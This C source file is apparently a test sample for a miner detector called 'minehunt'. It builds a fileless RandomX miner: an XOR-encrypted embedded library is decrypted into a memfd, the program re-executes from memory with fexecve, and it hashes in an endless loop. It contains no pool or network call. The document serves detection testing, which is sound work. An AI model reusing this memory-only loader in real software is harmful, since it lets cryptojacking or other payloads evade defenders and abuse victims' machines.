/*
 * A fileless RandomX miner, the way droppers build them (test workload for minehunt).
 *
 * The program carries librandomx only XOR-encrypted (BLOB, embedded with .incbin), so no
 * file on disk holds RandomX code in the clear. Stage 1 decrypts it straight into a
 * memfd, copies itself into a second memfd and re-executes from there (fexecve), so the
 * running program is memory-only too. Stage 2 dlopen()s the library from
 * /proc/self/fd/N and hashes in a loop (RandomX light mode). It prints "ready" once
 * hashing has started.
 *
 * Build: gcc -O2 -DBLOB='"rx.enc"' -DKEY='"..."' fileless_loader.c -ldl
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <randomx.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

__asm__(".section .rodata\n"
        ".balign 16\n"
        "rx_blob:\n"
        ".incbin " "\"" BLOB "\"" "\n"
        "rx_blob_end:\n"
        ".previous\n");
extern const unsigned char rx_blob[], rx_blob_end[];

static int die(const char *what) {
    perror(what);
    return 2;
}

static int stage1(const char *self) {
    static const char key[] = KEY;
    size_t klen = sizeof key - 1, n = (size_t)(rx_blob_end - rx_blob);
    int lib = memfd_create("rx", 0); /* no CLOEXEC: stage 2 inherits it */
    if (lib < 0)
        return die("memfd_create");
    unsigned char buf[4096];
    for (size_t at = 0; at < n; at += sizeof buf) {
        size_t len = n - at < sizeof buf ? n - at : sizeof buf;
        for (size_t i = 0; i < len; i++)
            buf[i] = rx_blob[at + i] ^ (unsigned char)key[(at + i) % klen];
        if (write(lib, buf, len) != (ssize_t)len)
            return die("write");
    }
    memset(buf, 0, sizeof buf);
    int prog = memfd_create("fileless", MFD_CLOEXEC);
    int me = open(self, O_RDONLY);
    if (prog < 0 || me < 0)
        return die("open self");
    ssize_t r;
    while ((r = read(me, buf, sizeof buf)) > 0)
        if (write(prog, buf, (size_t)r) != r)
            return die("write");
    close(me);
    char fd[16];
    snprintf(fd, sizeof fd, "%d", lib);
    char *argv[] = {"fileless-miner", "--stage2", fd, NULL};
    fexecve(prog, argv, environ);
    return die("fexecve");
}

static int stage2(const char *fd) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%s", fd);
    void *h = dlopen(path, RTLD_NOW | RTLD_LOCAL);
    if (!h) {
        fprintf(stderr, "dlopen: %s\n", dlerror());
        return 2;
    }
    close(atoi(fd));
    randomx_flags (*get_flags)(void) = dlsym(h, "randomx_get_flags");
    randomx_cache *(*alloc_cache)(randomx_flags) = dlsym(h, "randomx_alloc_cache");
    void (*init_cache)(randomx_cache *, const void *, size_t) = dlsym(h, "randomx_init_cache");
    randomx_vm *(*create_vm)(randomx_flags, randomx_cache *, randomx_dataset *) =
        dlsym(h, "randomx_create_vm");
    void (*hash)(randomx_vm *, const void *, size_t, void *) = dlsym(h, "randomx_calculate_hash");
    if (!get_flags || !alloc_cache || !init_cache || !create_vm || !hash)
        return die("dlsym");
    randomx_flags flags = get_flags();
    randomx_cache *cache = alloc_cache(flags);
    if (!cache)
        return die("randomx_alloc_cache");
    const char seed[] = "minehunt fileless test";
    init_cache(cache, seed, sizeof seed);
    randomx_vm *vm = create_vm(flags, cache, NULL);
    if (!vm)
        return die("randomx_create_vm");
    unsigned char blob[76] = {0}, out[32];
    for (unsigned long nonce = 0;; nonce++) {
        memcpy(blob + 39, &nonce, sizeof nonce);
        hash(vm, blob, sizeof blob, out);
        if (nonce == 0) {
            printf("ready %02x%02x%02x%02x\n", out[0], out[1], out[2], out[3]);
            fflush(stdout);
        }
    }
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "--stage2") == 0)
        return stage2(argv[2]);
    return stage1("/proc/self/exe");
}
